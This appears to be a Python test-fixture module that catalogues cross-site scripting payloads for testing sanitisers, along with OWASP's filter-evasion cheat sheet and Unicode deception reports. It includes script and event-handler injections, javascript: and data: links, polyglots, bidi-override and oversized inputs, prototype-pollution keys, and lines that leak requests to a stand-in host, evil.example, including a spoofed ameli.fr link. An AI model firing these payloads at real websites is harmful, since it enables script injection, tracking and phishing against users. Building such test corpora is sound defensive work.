"""What somebody could write so that another's browser runs it, leaks by it or shows what is not so.

Our own list, along OWASP's cheat sheet on evading filters (cheatsheetseries.owasp.org, "XSS Filter Evasion") and
Unicode's reports on what deceives the eye (UTS #39, UAX #9).
"""

from typing import Final

_RUN: Final = "window.ran=1"

MARKUP: Final = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'<svg onload="{_RUN}"><animate onbegin={_RUN} attributeName=x dur=1s>',
    f"<svg><a xlink:href=javascript:{_RUN}><text y=9>ici</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<input autofocus onfocus={_RUN}>",
    f"<form action=javascript:{_RUN}><button>ici</button></form>",
    "<style>*{background:url(//evil.example/css)}</style>",
    "<link rel=stylesheet href=//evil.example/css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    f'"><img src=x onerror={_RUN}>',
    f"--><img src=x onerror={_RUN}><!--",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<a id=x tabindex=1 onfocus={_RUN} style=position:fixed;inset:0>ici</a>",
    f"&lt;img src=x onerror={_RUN}&gt; &#60;img src=x onerror={_RUN}&#62;",
    f"{{@html '<img src=x onerror={_RUN}>'}} {{{{constructor.constructor('{_RUN}')()}}}}",
    f'<IMG """><SCRIPT>{_RUN}</SCRIPT>">',
    f"<svg/onload={_RUN}//",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<video><source onerror={_RUN}></video><audio src=x onerror={_RUN}>",
    f"<object data=javascript:{_RUN}></object><embed src=javascript:{_RUN}>",
    f"</title></textarea></style><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]><?xml version='1.0'?>",
    f"<template><script>{_RUN}</script></template><slot onslotchange={_RUN}>",
    f"%3Cscript%3E{_RUN}%3C/script%3E \\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f'\';{_RUN}//";{_RUN}//\\";{_RUN}//--></script>',
    f"${{{_RUN}}} `${{{_RUN}}}` #{{{_RUN}}} <%={_RUN}%>",
    "<img src=x onerror=&#x77;&#x69;ndow.ran&#61;1>",
    "<img src=//evil.example/pixel.png srcset='//evil.example/2x 2x'>",
    "<video poster=//evil.example/p></video><img src=`//evil.example/q`>",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={_RUN} )//</stYle/--!>\\x3csVg/<sVg/oNloAd={_RUN}//>\\x3e",
)

LINKS: Final = (
    f"[ici](javascript:{_RUN})",
    f"[ici](JaVaScRiPt:{_RUN})",
    f"[ici](\x01javascript:{_RUN})",
    f"[ici](java\tscript:{_RUN})",
    f"[ici](&#106;avascript:{_RUN})",
    f"[ici](data:text/html,<script>{_RUN}</script>)",
    "[ici](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
    f"[ici](vbscript:{_RUN})",
    "[ici](blob:https://exemple.fr/1)",
    "[ici](//evil.example/t)",
    f'[ici](https://exemple.fr "x\\" onmouseover={_RUN} \\"")',
    f"[<img src=x onerror={_RUN}>](https://exemple.fr)",
    f'[ici](https://exemple.fr/"onmouseover={_RUN})',
    f"![x](x\"onerror='{_RUN}')",
    "![pixel](https://evil.example/pixel.png)",
    f"<javascript:{_RUN}>",
    f"[ici][1]\n\n[1]: javascript:{_RUN}",
    "[https://ameli.fr](https://evil.example/ameli)",
    f"https://exemple.fr/<script>{_RUN}</script>",
    f"https://exemple.fr/\"onclick={_RUN}//'",
    f"javascript:{_RUN} www.exemple.fr@evil.example",
    f"view-source:javascript:{_RUN} filesystem:https://evil.example/ intent://evil.example#Intent;end",
)

SHAPES: Final = (
    "\u202egnp.exe\u202c \u2066x\u2069 \u200fy",
    ">" * 4000,
    "- " * 3900,
    "[" * 4000,
    "*" * 4000 + "a",
    "**a" * 2600,
    "`" * 4000,
    "|-|\n" * 1900,
    "<@" * 3900,
    f"<@{_RUN}> <@<img src=x onerror={_RUN}>> <@__proto__> <@constructor|prototype>",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!" * 40,
    "constructor __proto__ toString hasOwnProperty",
)

TURNED: Final = "\u202eneicedém\u2066 \u200f\u2067"
"""Turns the direction of all that follows on its line, and never turns it back."""
KEYS: Final = ("__proto__", "constructor", "hasOwnProperty")

TEXTS: Final = MARKUP + LINKS + SHAPES

LINES: Final = tuple(text for text in (*MARKUP, *LINKS, *KEYS) if text.isprintable())
"""What may stand in clear: one line, nothing hidden."""
SHORT: Final = tuple(text for text in LINES if len(text) <= 100)
"""What fits a name, a title or an option."""


def fitting(most: int, *, sealed: bool = False) -> tuple[str, ...]:
    """What a field of so many characters takes; nobody but its reader checks one that is sealed."""
    return tuple(text for text in (*LINES, *((TURNED,) if sealed else ())) if len(text) <= most)


def packed(most: int) -> str:
    """As many as fit such a field together, where there is one alone."""
    whole = ""
    for text in LINES:
        if len(whole) + len(text) < most:
            whole += f" {text}" if whole else text
    return whole
